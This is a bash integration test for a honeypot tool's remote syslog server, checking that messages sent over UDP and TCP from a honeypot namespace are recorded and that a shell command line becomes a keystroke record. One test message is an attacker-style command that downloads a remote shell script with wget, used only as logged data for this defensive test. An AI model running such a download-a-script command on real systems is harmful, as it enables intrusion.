#!/bin/bash
# logserver: fishbowl's remote syslog server ([logserver] listen) on a
# third veth pair from the gateway namespace into the honeypot's, on a small
# subnet of its own (192.0.2.0/30: gateway .1, honeypot .2; the bridge legs
# stay address-less).  From the honeypot, util-linux logger sends over UDP
# and TCP (RFC 3164 and RFC 5424, LF framing and octet counting), and a real
# rsyslogd (own config, pid file and input socket; no /dev/log, no
# imudp/imtcp) forwards what logger --socket hands it to the gateway over
# TCP with octet counting.  syslog.jsonl must hold exactly those messages,
# source "server", the honeypot's address as peer, the right transport,
# facility and severity; a shell command line among them becomes a
# keystrokes.jsonl line with source "syslog".
#
# Run as root from the repo root: FB_BUILD=build bash tests/netns/logserver.sh
. "$(dirname "$0")/../lib.sh"
cd "$FB_ROOT" || exit 1

if [ "$(id -u)" != 0 ]; then
	skip "logserver" "needs root"
	done_testing; exit 0
fi
for t in ip logger rsyslogd python3 ss; do
	if ! command -v $t >/dev/null; then
		skip "logserver" "$t missing"
		done_testing; exit 0
	fi
done
if [ ! -x "$FISHBOWL" ]; then
	not_ok "fishbowl is built" "no executable $FISHBOWL"
	done_testing; exit 1
fi

FBN_PREFIX=${FBN_PREFIX:-fbls$$}
FBN_FISHBOWL=$FISHBOWL
. "$FB_ROOT/tests/netns/lib-netns.sh"
fbn_init || { not_ok "work directory"; done_testing; exit 1; }
if ! fbn_up; then
	not_ok "test bed: namespaces, veth pairs, addresses"
	done_testing; exit 1
fi
W=$FBN_WORK
GWADDR=192.0.2.1
HPLOG=192.0.2.2

# The log network: gwl (gateway) <-> h1 (honeypot), a /30 of its own.
if ip link add gwl netns "$FBN_GW" type veth peer name h1 netns "$FBN_HP" &&
    inG ip addr add $GWADDR/30 dev gwl && inG ip link set gwl up &&
    inH ip addr add $HPLOG/30 dev h1 && inH ip link set h1 up; then
	ok "log network: gwl $GWADDR/30 <-> h1 $HPLOG/30"
else
	not_ok "log network: gwl $GWADDR/30 <-> h1 $HPLOG/30"
	done_testing; exit 1
fi

fbn_conf logsrv <<EOF_
[logserver]
listen = udp:$GWADDR:514, tcp:$GWADDR:514
EOF_
if fbn_start; then ok "fishbowl runs"; else not_ok "fishbowl runs"; done_testing; exit 1; fi
if fbn_wait_port "$FBN_GW" 514 tcp && fbn_wait_port "$FBN_GW" 514 udp; then
	ok "fishbowl listens on $GWADDR:514 (UDP and TCP)"
else
	not_ok "fishbowl listens on $GWADDR:514 (UDP and TCP)" "$(inG ss -lnut)"
fi
check_eq "the bridge legs have no address" "" \
    "$(inG ip -o addr show dev gwo; inG ip -o addr show dev gwh)"

# logger from the honeypot: one message per framing and format.
# (-p facility.severity, -t tag; --octet-count: RFC 6587 octet counting,
# else TCP is LF-framed.)
lg() { inH logger -n $GWADDR -P 514 "$@"; }
sent=0
lg --udp --rfc3164 -p local0.notice -t fbudp "udp rfc3164 hello" && sent=$((sent + 1))
lg --udp --rfc5424 -p user.err -t fbudp5 "udp rfc5424 hello" && sent=$((sent + 1))
lg --tcp --rfc3164 -p auth.info -t fbtcp "tcp rfc3164 lf-framed" && sent=$((sent + 1))
lg --tcp --rfc5424 --octet-count -p daemon.warning -t fbtcp5 "tcp rfc5424 octet-counted" &&
    sent=$((sent + 1))
lg --udp --rfc3164 -p local7.debug -t bash "wget http://203.0.113.7/x.sh" && sent=$((sent + 1))
check_eq "logger sent 5 messages" 5 $sent

# rsyslogd in the honeypot: its own config, input socket and pid file, no
# system socket (SysSock.Use off: the host's /dev/log is not touched), no
# network input; everything it gets goes to the gateway over TCP.
mkdir -p "$W/rsyslog"
cat >"$W/rsyslog/rsyslog.conf" <<EOF_
global(workDirectory="$W/rsyslog")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="$W/rsyslog/in.sock" CreatePath="on")
*.* action(type="omfwd" target="$GWADDR" port="514" protocol="tcp"
           TCP_Framing="octet-counted" template="RSYSLOG_SyslogProtocol23Format")
EOF_
fbn_bg "$FBN_HP" rsyslogd -n -f "$W/rsyslog/rsyslog.conf" -i "$W/rsyslog/rsyslogd.pid"
for i in $(seq 1 100); do
	[ -S "$W/rsyslog/in.sock" ] && break
	sleep 0.05
done
if [ -S "$W/rsyslog/in.sock" ]; then
	ok "rsyslogd runs in the honeypot (own socket, no /dev/log)"
else
	not_ok "rsyslogd runs in the honeypot (own socket, no /dev/log)"
fi
inH logger --socket "$W/rsyslog/in.sock" -p mail.crit -t fbrs "through rsyslog one"
inH logger --socket "$W/rsyslog/in.sock" -p local3.info -t fbrs "through rsyslog two"

# Wait for everything: 5 from logger, 2 through rsyslog.
count() { cat "$FBN_DATA"/????-??-??/syslog.jsonl 2>/dev/null | grep -c '"app":"fbrs"'; }
for i in $(seq 1 100); do
	[ "$(count)" = 2 ] && break
	sleep 0.1
done
sleep 0.3
fbn_status --json >"$W/status.json" 2>/dev/null
fbn_stop
check_eq "fishbowl stops cleanly" 0 $?

cat >"$W/check.py" <<'EOF_'
import glob, json, sys
recs = [json.loads(l) for p in sorted(glob.glob(sys.argv[1] + "/*/syslog.jsonl")) for l in open(p)]
what = sys.argv[2]
if what == "ours":
    # rsyslogd's own notices (if this version forwards any) aside
    # app, transport, facility.severity, format, msg
    for r in sorted(recs, key=lambda r: (r.get("app", ""), r["msg"])):
        if r.get("app") == "rsyslogd":
            continue
        print(r.get("app"), r["transport"], "%s.%s" % (r.get("facility"), r.get("severity")),
              r["format"], r["msg"])
elif what == "origin":
    print(" ".join(sorted({"%s %s %s:%d" % (r["source"], r["peer"], r["dst"], r["dst_port"])
                           for r in recs})))
elif what == "status":
    s = json.load(open(sys.argv[1]))["logserver"]
    print(s["udp_datagrams"], s["tcp_accepted"], s["rate_dropped"], s["truncated"], s["errors"])
EOF_
# rsyslog's %msg% keeps the space after "fbrs:", and sends it after the
# 5424 header's own: the MSG starts with it (raw has both).
want=$(cat <<'EOF_'
bash udp local7.debug rfc3164 wget http://203.0.113.7/x.sh
fbrs tcp mail.crit rfc5424  through rsyslog one
fbrs tcp local3.info rfc5424  through rsyslog two
fbtcp tcp auth.info rfc3164 tcp rfc3164 lf-framed
fbtcp5 tcp daemon.warning rfc5424 tcp rfc5424 octet-counted
fbudp udp local0.notice rfc3164 udp rfc3164 hello
fbudp5 udp user.err rfc5424 udp rfc5424 hello
EOF_
)
check_eq "syslog.jsonl: exactly the messages sent (app transport facility.severity format msg)" \
    "$want" "$(python3 "$W/check.py" "$FBN_DATA" ours)"
check_eq "every message: source server, peer the honeypot's log address, to $GWADDR:514" \
    "server $HPLOG $GWADDR:514" "$(python3 "$W/check.py" "$FBN_DATA" origin)"
check_eq "the shell's command line is a keystroke line" \
    "syslog $HPLOG wget http://203.0.113.7/x.sh" \
    "$(python3 -c 'import glob, json, sys
for p in sorted(glob.glob(sys.argv[1] + "/*/keystrokes.jsonl")):
    for l in open(p):
        r = json.loads(l)
        print(r["source"], r["honeypot"], r["line"])' "$FBN_DATA")"
check_eq "status: 3 UDP datagrams, 3 TCP connections (2 logger, 1 rsyslogd), nothing dropped" \
    "3 3 0 0 0" "$(python3 "$W/check.py" "$W/status.json" status)"
check_eq "the bridge legs still have no address" "" \
    "$(inG ip -o addr show dev gwo; inG ip -o addr show dev gwh)"
done_testing
